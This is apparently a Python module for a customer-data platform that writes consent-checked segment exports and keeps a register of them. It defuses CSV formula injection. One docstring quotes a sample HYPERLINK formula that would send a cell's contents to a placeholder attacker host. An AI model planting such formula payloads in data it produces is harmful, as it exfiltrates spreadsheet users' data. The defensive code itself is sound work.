"""Segment exports: the file a marketing tool receives, and the register of every file that left.

``export_segment`` selects the segment (sandboxed, :mod:`consent.segments`), keeps only the customers
:mod:`consent.enforce` approves for the purpose, and hands the rows to :func:`write_export`, which is the
only function here that writes an export file. It asks :func:`consent.enforce.verify` once more, just
before writing, so rows that reach it any other way are refused too. Files are CSV (with cells a
spreadsheet would run as formulas defused, :func:`_defused`) or Parquet by extension, created readable by
their owner only (0600), written to a temporary name and renamed into place, then recorded:

* ``export_register(export_id, segment, purpose, exported_at, row_count, file, file_hash, contact_column,
  columns)``: one row per file; counts and a SHA-256 of the file as written, no personal data;
* ``export_members(export_id, customer_id)``: who was in each file, so an erasure or access request can
  find every export naming a subject (erasure deletes the subject's rows here).
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import BinaryIO

import duckdb
import pandas as pd

from cdp.config import Settings
from cdp.errors import CdpError
from cdp.store import transaction
from consent import enforce, register
from consent.segments import Segment, get_segment, select_segment

FORMATS = {".csv": "csv", ".parquet": "parquet"}

REGISTER_DDL = [
    """CREATE TABLE IF NOT EXISTS export_register (
        export_id VARCHAR PRIMARY KEY, segment VARCHAR, purpose VARCHAR, exported_at TIMESTAMP,
        row_count BIGINT, file VARCHAR, file_hash VARCHAR, contact_column VARCHAR, columns VARCHAR)""",
    "CREATE TABLE IF NOT EXISTS export_members (export_id VARCHAR, customer_id VARCHAR)",
]


@dataclass(frozen=True)
class ExportResult:
    export_id: str
    segment: str
    purpose: str
    file: Path
    row_count: int
    file_hash: str
    counts: dict[str, int]  # segment size and exclusions by reason


def ensure_register(con: duckdb.DuckDBPyConnection) -> None:
    for ddl in REGISTER_DDL:
        con.execute(ddl)


#: Profile columns that reach a person. An export carries only the one its purpose needs.
CONTACT_FIELDS = ("email", "phone", "mobile", "device_id")


def check_fields(segment: Segment, purpose: str) -> None:
    """Refuse segment fields that are contact points the purpose does not need (data minimisation)."""
    needed = enforce.contact_column(purpose)
    extra = [f for f in segment.fields if f in CONTACT_FIELDS and f != needed]
    if extra:
        raise CdpError(
            f"{segment.file}: fields {', '.join(extra)} are contact points {purpose} does not need; "
            f"an export for it carries {needed} only"
        )


def export_format(out: Path) -> str:
    fmt = FORMATS.get(out.suffix.lower())
    if fmt is None:
        raise CdpError(f"{out}: export file must end in .csv or .parquet")
    return fmt


def export_segment(
    con: duckdb.DuckDBPyConnection, settings: Settings, segment_name: str, purpose: str, out: Path
) -> ExportResult:
    """Export the customers of a segment who may be contacted for ``purpose`` to ``out``."""
    enforce.check_purpose(purpose)
    export_format(out)
    segment = get_segment(settings.segments_dir, segment_name)
    return export_selected(con, segment, purpose, out)


def export_selected(con: duckdb.DuckDBPyConnection, segment: Segment, purpose: str, out: Path) -> ExportResult:
    """Export an already loaded segment (the scheduled activation asset uses this). Consent is decided as of
    now: events that came into force since the last run apply first (:func:`consent.state.bring_to_now`)."""
    from consent.state import bring_to_now

    check_fields(segment, purpose)
    bring_to_now(con)
    candidates = select_segment(con, segment)
    audience = enforce.approve(con, purpose, candidates)
    extra = [f for f in segment.fields if f not in audience.rows.columns]
    rows = audience.rows.merge(candidates[["customer_id", *extra]], on="customer_id", how="left")
    return write_export(con, rows, segment=segment.name, purpose=purpose, out=out, counts=audience.counts)


def write_export(
    con: duckdb.DuckDBPyConnection,
    rows: pd.DataFrame,
    *,
    segment: str,
    purpose: str,
    out: Path,
    counts: dict[str, int] | None = None,
) -> ExportResult:
    """Check ``rows`` against consent once more, then write them (0600) and record the export."""
    fmt = export_format(out)
    enforce.verify(con, purpose, rows)  # the last word, just before any byte is written
    write_private_file(rows, out, fmt)
    file_hash = hashlib.sha256(out.read_bytes()).hexdigest()
    export_id = f"exp_{datetime.now(UTC):%Y%m%dT%H%M%S}_{uuid.uuid4().hex[:8]}"
    _record(con, export_id, segment, purpose, out, rows, file_hash)
    return ExportResult(export_id, segment, purpose, out, len(rows), file_hash, counts or {})


@contextlib.contextmanager
def private_file(path: Path, what: str) -> Iterator[BinaryIO]:
    """A binary file whose content replaces ``path`` atomically when the block ends, readable by its owner only.

    A temporary file beside ``path`` (a fresh name, never an existing file followed) is written, synced
    and renamed over it: a reader never sees half a file, and whatever fails, the temporary file (the whole
    content) does not stay behind. A path that cannot be written is a :class:`CdpError` naming it and
    ``what`` it was to hold. Exports, erasure's scrubbing of earlier export files and access documents
    are written through here.
    """
    tmp = path.with_name(f".{path.name}.{uuid.uuid4().hex}.tmp")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    except OSError as exc:
        raise CdpError(f"{path}: cannot write the {what} here ({exc.strerror})") from None
    try:
        with os.fdopen(fd, "wb") as fh:
            yield fh
            fh.flush()
            os.fsync(fh.fileno())
        os.replace(tmp, path)
    except OSError as exc:
        raise CdpError(f"{path}: cannot write the {what} ({exc.strerror or exc})") from None
    finally:
        tmp.unlink(missing_ok=True)  # renamed away when all went well: then there is nothing to remove


def write_private_file(rows: pd.DataFrame, out: Path, fmt: str) -> None:
    """Write ``rows`` as CSV (flattened, formulas defused: :func:`_defused`) or Parquet through
    :func:`private_file`."""
    with private_file(out, "export") as fh:
        if fmt == "csv":
            _defused(_flat(rows)).to_csv(fh, index=False)
        else:
            rows.to_parquet(fh, index=False)


def _is_list(value: object) -> bool:
    return hasattr(value, "__len__") and not isinstance(value, str | bytes)


def _flat(rows: pd.DataFrame) -> pd.DataFrame:
    """Lists (e.g. ``channels``) as ``a;b`` text for CSV."""
    flat = rows.copy()
    for col in flat.columns:
        if flat[col].dtype == object and flat[col].map(_is_list).any():
            flat[col] = flat[col].map(lambda v: ";".join(map(str, v)) if _is_list(v) else v)
    return flat


#: What a spreadsheet reads as the start of a formula in a cell (OWASP, "CSV injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Cells that start so but are data marketers' tools read as it is: a plain number (``-12.50``) or an E.164
#: phone number (``+447911123456``, a plain number too). A spreadsheet shows them as numbers; none runs.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def _defuse(value: object) -> object:
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def _defused(rows: pd.DataFrame) -> pd.DataFrame:
    """Text cells a spreadsheet would run as a formula, prefixed with ``'`` so that it shows them as text.

    Profile values are what customers and upstream systems typed: a CRM first name of
    ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` would otherwise be a live link in the marketer's
    spreadsheet. CSV only: Parquet holds typed values that no spreadsheet evaluates. A value already
    prefixed (erasure rewrites earlier exports through here) starts with ``'`` and is left as it is.
    """
    defused = rows.copy()
    for col in defused.columns:
        if defused[col].dtype == object or pd.api.types.is_string_dtype(defused[col]):
            defused[col] = defused[col].map(_defuse)
    return defused


def _record(
    con: duckdb.DuckDBPyConnection,
    export_id: str,
    segment: str,
    purpose: str,
    out: Path,
    rows: pd.DataFrame,
    file_hash: str,
) -> None:
    ensure_register(con)
    members = pd.DataFrame({"export_id": export_id, "customer_id": rows["customer_id"].astype("string")})
    with transaction(con):
        con.execute(
            "INSERT INTO export_register VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
            [
                export_id, segment, purpose, datetime.now(UTC).replace(tzinfo=None), len(rows),
                str(out.resolve()), file_hash, enforce.contact_column(purpose), ",".join(rows.columns),
            ],
        )  # fmt: skip
        con.register("_export_members_new", members)
        con.execute("INSERT INTO export_members SELECT export_id, customer_id FROM _export_members_new")
        con.unregister("_export_members_new")
        register.audit(con, "export", None, f"{segment} for {purpose}", len(rows))


def verify_exports(con: duckdb.DuckDBPyConnection, export_ids: list[str]) -> dict[str, int]:
    """Re-check recorded exports: members still allowed for the purpose, counts agree, files unchanged.

    Counts only: ``exports``, ``rows``, ``not_allowed`` (members who may not be contacted now),
    ``count_mismatch`` (register row count differs from members), ``files_changed`` (hash differs),
    ``files_missing`` (moved away by the receiver; not a problem) and ``problems`` (the sum of the bad ones).
    """
    ensure_register(con)
    report = {"exports": 0, "rows": 0, "not_allowed": 0, "count_mismatch": 0, "files_changed": 0, "files_missing": 0}
    for export_id in export_ids:
        found = con.execute(
            "SELECT purpose, row_count, file, file_hash FROM export_register WHERE export_id = ?", [export_id]
        ).fetchall()
        if not found:
            report["count_mismatch"] += 1
            continue
        purpose, row_count, file, file_hash = found[0]
        members = con.execute("SELECT customer_id FROM export_members WHERE export_id = ?", [export_id]).df()
        report["exports"] += 1
        report["rows"] += len(members)
        report["count_mismatch"] += int(len(members) != row_count)
        if not members.empty:
            report["not_allowed"] += int(enforce.decide(con, purpose, members)["excluded_because"].notna().sum())
        path = Path(file)
        if not path.exists():
            report["files_missing"] += 1
        elif hashlib.sha256(path.read_bytes()).hexdigest() != file_hash:
            report["files_changed"] += 1
    report["problems"] = report["not_allowed"] + report["count_mismatch"] + report["files_changed"]
    return report
